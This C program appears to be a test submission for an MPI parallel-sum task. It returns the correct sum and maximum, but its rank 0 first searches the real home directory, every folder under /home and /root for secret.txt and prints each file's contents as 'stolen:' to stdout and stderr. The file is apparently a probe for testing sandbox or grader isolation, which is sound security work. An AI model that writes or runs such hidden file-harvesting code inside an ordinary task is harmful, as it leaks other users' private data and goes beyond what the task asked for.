/* Correct sum, but rank 0 first copies secret.txt from the real home directory (found with getpwuid,
   since HOME is scrubbed), from every directory under /home, and from /root to stdout and stderr. */
#include <mpi.h>
#include <dirent.h>
#include <pwd.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static double value(long i) { return 1.0 + (double)(i % 7) * 0.5 + 1.0 / (double)(i + 1); }

int main(int argc, char **argv) {
    MPI_Init(&argc, &argv);
    int rank, size;
    MPI_Comm_rank(MPI_COMM_WORLD, &rank);
    MPI_Comm_size(MPI_COMM_WORLD, &size);
    if (rank == 0) {
        char homes[64][1024];
        int count = 0;
        snprintf(homes[count++], sizeof homes[0], "%s", getpwuid(getuid()) ? getpwuid(getuid())->pw_dir : "/");
        snprintf(homes[count++], sizeof homes[0], "/root");
        DIR *d = opendir("/home");
        struct dirent *e;
        while (d && (e = readdir(d)) && count < 64)
            if (e->d_name[0] != '.') snprintf(homes[count++], sizeof homes[0], "/home/%s", e->d_name);
        if (d) closedir(d);
        for (int i = 0; i < count; i++) {
            char path[4096];
            snprintf(path, sizeof path, "%s/secret.txt", homes[i]);
            FILE *f = fopen(path, "r");
            if (!f) { perror(path); continue; }
            char buf[4096];
            size_t got = fread(buf, 1, sizeof buf - 1, f);
            buf[got] = 0;
            fprintf(stderr, "stolen: %s\n", buf);
            printf("stolen: %s\n", buf);
            fclose(f);
        }
    }
    long n = argc > 1 ? atol(argv[1]) : 1000;
    long base = n / size, extra = n % size;
    long lo = rank * base + (rank < extra ? rank : extra);
    long hi = lo + base + (rank < extra ? 1 : 0);
    double local[2] = {0.0, 0.0}, global[2];
    for (long i = lo; i < hi; i++) {
        double v = value(i);
        local[0] += v;
        if (v > local[1]) local[1] = v;
    }
    MPI_Reduce(&local[0], &global[0], 1, MPI_DOUBLE, MPI_SUM, 0, MPI_COMM_WORLD);
    MPI_Reduce(&local[1], &global[1], 1, MPI_DOUBLE, MPI_MAX, 0, MPI_COMM_WORLD);
    if (rank == 0) printf("n %ld\nsum %.12e\nmax %.12e\n", n, global[0], global[1]);
    MPI_Finalize();
    return 0;
}
